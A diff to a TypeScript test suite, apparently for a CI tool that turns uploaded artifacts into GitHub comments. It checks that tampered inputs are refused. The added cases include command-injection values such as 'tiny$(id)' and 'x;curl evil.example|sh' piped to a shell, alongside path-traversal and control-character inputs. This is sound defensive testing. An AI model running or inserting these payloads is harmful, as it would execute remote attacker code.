@@ -199,6 +199,7 @@ const TAMPERED: readonly (readonly [string, (zip: Buffer) => Buffer, RegExp])[] 
   ["another binary's text", saying('binary.text', 7), /binary\.text is \d+, not 7/],
   ['no sections', saying('binary.sections', []), /binary\.sections is another/],
   ['crates that do not add up', saying('attribution.crates', []), /the crates add up to/],
+  ['a name that a shell would run', saying('name', 'tiny$(id)'), /"tiny\$\(id\)" is no name of a function/],
   ['no package', (zip) => without(zip, 'head/packages/tiny.zip'), /no entry "head\/packages\/tiny\.zip"/],
   ['names that point outside', (zip) => replaced(zip, SNAPSHOT, '../../../../xxxxxx'), /points outside/],
   ['names with control characters', (zip) => replaced(zip, SNAPSHOT, 'head/\n::error::abc'), /./],
@@ -217,6 +218,25 @@ describe('a tampered artifact is data', () => {
     expect(scene.comments(other)).toEqual([]);
     expect(scene.comments(red)).toHaveLength(1);
     expect(scene.comments(red)[0]?.body).toContain('refused');
+  });
+
+  test('the command that repeats it is made here: of what fits, with the base and the address that GitHub knows', async () => {
+    const run = measuring(red);
+    const repeat = [
+      { flag: 'bin', value: 'tiny' },
+      { flag: 'bin', value: 'x;curl evil.example|sh' },
+      { flag: 'prepare', value: 'curl evil.example' },
+    ];
+    const zip = edited(uploaded, 'leg.json', (leg) => ({ ...leg, repeat }));
+    scene.state.artifact(REPOSITORY, run.id, { name: LEG, zip });
+    await report(run);
+    const body = scene.comments(red)[0]?.body ?? '';
+    expect(body).toMatch(
+      new RegExp(
+        `git fetch https://github.com/${REPOSITORY} [0-9a-f]{40}\ncoldgate check --base [0-9a-f]{40} --bin=tiny\n# and --bin, --prepare: see the workflow`,
+      ),
+    );
+    expect(body).not.toContain('evil');
   });
 
   test('names made to be read as Markdown or mentions are text', async () => {
